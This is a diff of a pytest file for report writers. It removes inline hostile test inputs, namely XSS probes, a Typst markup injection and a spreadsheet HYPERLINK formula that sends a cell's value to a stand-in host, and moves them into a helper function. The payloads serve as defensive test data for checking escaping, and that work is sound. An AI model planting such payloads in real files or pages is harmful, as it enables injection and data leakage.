@@ -1,18 +1,10 @@
 """The snapshot that all writers are tested with, and one in which strangers wrote."""
 
-import json
-from typing import Any
-
 import pytest
 
 from core.records.snapshot import Snapshot
 from core.report.writers import Format, written
-from tests.core.report.hand_made import MODEL, recommendation, snapshot
-
-IMAGE = "<img src=x onerror=alert(1)>.pdf"
-SCRIPT = "<script>alert(2)</script>"
-FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"x")'
-TYPST = '#panic("typst") #import "@preview/x:1.0.0": * $x$ `raw`'
+from tests.core.report.hand_made import hostile_snapshot, recommendation, snapshot
 
 
 @pytest.fixture(scope="session")
@@ -22,22 +14,9 @@ def told() -> Snapshot:
 
 
 @pytest.fixture(scope="session")
-def hostile(told: Snapshot) -> Snapshot:
-    """The same with markup, scripts and formulas wherever a name, question or answer stands."""
-    text = json.dumps(told)
-    for mine, theirs in (
-        ("Demo (recorded)", IMAGE),
-        (MODEL, f"{SCRIPT}{FORMULA}"),
-        ("=no idea", f"{FORMULA} {SCRIPT} {IMAGE}"),
-        ("How long is", f"{TYPST} ![x](javascript:alert(3)) {SCRIPT} How long is"),
-        ("mixed 1", FORMULA),
-        ("One adapter was trained", f"</title></style></svg>{SCRIPT} | {TYPST}"),
-        ("Hybrid fits best", f"<b onclick=alert(4)>{SCRIPT}]]></b>"),
-    ):
-        assert mine in text
-        text = text.replace(mine, json.dumps(theirs)[1:-1])
-    changed: Any = json.loads(text)
-    return changed  # type: ignore[no-any-return]
+def hostile() -> Snapshot:
+    """The same with markup, scripts and formulas of strangers in it."""
+    return hostile_snapshot()
 
 
 @pytest.fixture(scope="session")
